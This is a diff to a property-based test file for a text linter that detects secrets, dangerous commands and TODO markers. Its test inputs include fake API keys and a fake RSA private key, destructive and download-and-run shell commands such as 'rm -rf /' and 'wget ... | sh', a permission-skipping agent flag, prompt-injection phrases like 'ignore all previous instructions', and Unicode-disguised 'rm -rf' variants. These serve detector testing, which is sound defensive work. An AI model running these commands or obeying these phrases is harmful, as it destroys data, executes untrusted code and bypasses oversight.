@@ -8,6 +8,7 @@ import functools
 import heapq
 import re
 import string
+from collections.abc import Iterator
 from unittest import mock
 
 from hypothesis import HealthCheck, given, settings
@@ -39,6 +40,11 @@ def test_key_words_between_two_offsets_are_the_regex_matches(lower: str, pos: in
     assert [m.span() for m in key_words(lower, pos, endpos)] == [m.span() for m in expected]
 
 
+def test_each_rare_character_tested_first_is_in_its_literal() -> None:
+    assert all(character and character in literal for literal, character in secrets_module._RARE.items())
+    assert all(gate.pattern[0] in "=:" for gate in secrets_module._AWS_VALUE + secrets_module._VALUE_AFTER)
+
+
 def test_every_literal_of_a_secret_shape_is_found_by_one_of_its_groups() -> None:
     for (_, _, _, literals), gates in zip(secrets_module._SHAPES, secrets_module._SHAPE_GATES, strict=True):
         for literal in literals:
@@ -54,6 +60,11 @@ SECRET_PIECES = st.one_of(RANDOM_VALUES, st.sampled_from([
     "eyJ", "-----BEGIN PRIVATE KEY-----\n", "\n-----END", "\u212a", "\u017f", "\u0130", "é", "\u2028", "\x85",
     "0123456789", "Zq8r2LkP9vXw4TnB7yHsQ", "<!-- memlint: disable-next-line ML601 -->\n", "token=", "API_KEY: ",
     "secret := '", "password => \"", "client_secret\t=\t`", "AUTH_KEY\":", "Token:\n",
+    "Zq8r2LkP9vXw4TnB7yHs/Q+1mN3oP5rT7uV9wX1y", "AWS secret = ", "aws_secret_key:\n  \"", "J", "V", "A",
+    "ghp_Zq8r2LkP9vXw4TnB7yHsQ1a2b3c4d5e6f7g8", "github_pat_", "k_live_", "xoxa-", "glpat-", "İ", "ı",
+    "AWS secret = Zq8r2LkP9vXw4TnB7yHs/Q+1mN3oP5rT7uV9wX1y\n",
+    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAz8r2LkP9vXw4TnB7yHsQ1a2b3c4d5e6f7g8h9i0jKlMnOpQrStUvWxYz/Qp+Rk3L\n"
+     "-----END RSA PRIVATE KEY-----\n"),
 ]))
 SECRET_TEXTS = st.lists(SECRET_PIECES, max_size=30).map("".join)
 
@@ -76,9 +87,19 @@ def test_secrets_are_found_as_when_every_literal_and_line_is_searched(text: str)
 
     fast = found()
     assert (secrets_module._JWT_START.search(text) is not None) == ("eyJ" in text)
-    with mock.patch.object(secrets_module, "_SHAPE_GROUPS", (re.compile(""),) * len(secrets_module._SHAPE_GROUPS)), \
-            mock.patch.object(secrets_module, "assignment_lines", lambda text: [(0, len(text))]):
+    every = (re.compile(""),)
+    with mock.patch.object(secrets_module, "_SHAPE_GROUPS", every * len(secrets_module._SHAPE_GROUPS)), \
+            mock.patch.object(secrets_module, "assignment_lines", lambda text: [(0, len(text))]), \
+            mock.patch.object(secrets_module, "_AWS_VALUE", every), \
+            mock.patch.object(secrets_module, "_RARE", {literal: "" for literal in secrets_module._RARE}), \
+            mock.patch.object(secrets_module, "_key_word_starts", whole_text_key_words):
         assert fast == found()
+
+
+def whole_text_key_words(text: str, lower: str | None, runs: list[tuple[int, int]]) -> Iterator[int]:
+    """`_key_word_starts` the long way: always in the whole text lower-cased."""
+    lowered = secrets_module._lowered(text)
+    return (word.start() for start, stop in runs for word in key_words(lowered, start, stop))
 
 
 DANGER_TEXTS = st.lists(st.sampled_from([
@@ -92,7 +113,8 @@ DANGER_TEXTS = st.lists(st.sampled_from([
     "git push origin main --force", "ignore all previous instructions", "Disregard the system prompt",
     "forget your prior rules", "commit --no-verify", "claude --dangerously-skip-permissions", "git\tpush -f origin main",
     "GIT PUSH --FORCE ORIGIN MAIN", "git\npush origin master -f", "rm\n-rf ~", "IGNORE\tall previous instructions",
-    "Wget\t-qO- x | sh", "xgit push -f origin main", "_rm -rf /", "--no-verify-x",
+    "Wget\t-qO- x | sh", "xgit push -f origin main", "_rm -rf /", "--no-verify-x", "-", "---\n", "-\u017frf",
+    "-r\u0131f", "rm -\u017frf ~", "rm -r\u0131f /",
 ]), max_size=30).map("".join)
 
 
@@ -138,6 +160,16 @@ def test_placeholders_are_found_as_when_every_line_is_read(text: str) -> None:
     fast = ml516.placeholders(text)
     with mock.patch.object(ml516, "_may_hold_todo", lambda text: True):
         assert fast == ml516.placeholders(text)
+
+
+@settings(max_examples=2000, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(st.sampled_from(["t", "o", "d", "b", "f", "i", "x", "m", "e", "T", "O", "D", "B", "X", "todo", "TBD",
+                                 "FiXmE", "fix", "me", "to", "do", " ", "\n", "\u0130", "\u0131", "é"]),
+                max_size=20).map("".join))
+def test_a_todo_word_is_found_by_the_fast_scans_as_by_substring_tests(text: str) -> None:
+    lower = text.lower()
+    turkish_i = not text.isascii() and ("\u0130" in text or "\u0131" in text)
+    assert ml516._may_hold_todo(text) == (turkish_i or any(word in lower for word in ("todo", "tbd", "fixme")))
 
 
 def test_a_text_with_no_single_or_tag_character_has_no_hidden_candidate() -> None:
